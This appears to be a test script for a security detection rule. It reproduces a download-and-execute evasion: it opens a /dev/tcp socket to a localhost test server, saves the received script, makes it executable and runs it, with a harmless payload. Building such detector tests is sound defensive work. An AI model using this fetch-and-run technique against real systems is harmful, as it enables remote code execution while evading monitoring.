# technique: T1105 a shell opens /dev/tcp and its child cat writes what the socket sends into /tmp: no downloader, and the writer itself never connects
# rule: download_and_execute
# evasion-of: 100_curl_download_run
# exe: /usr/bin/dash
. "$(dirname "$0")/common.bash"
serve_once '#!/bin/sh
exit 0
'
exec 3<>"/dev/tcp/127.0.0.1/$VG_PORT"
cat <&3 >"$VG_TMP/tool"
exec 3<&-
chmod +x "$VG_TMP/tool"
"$VG_TMP/tool"
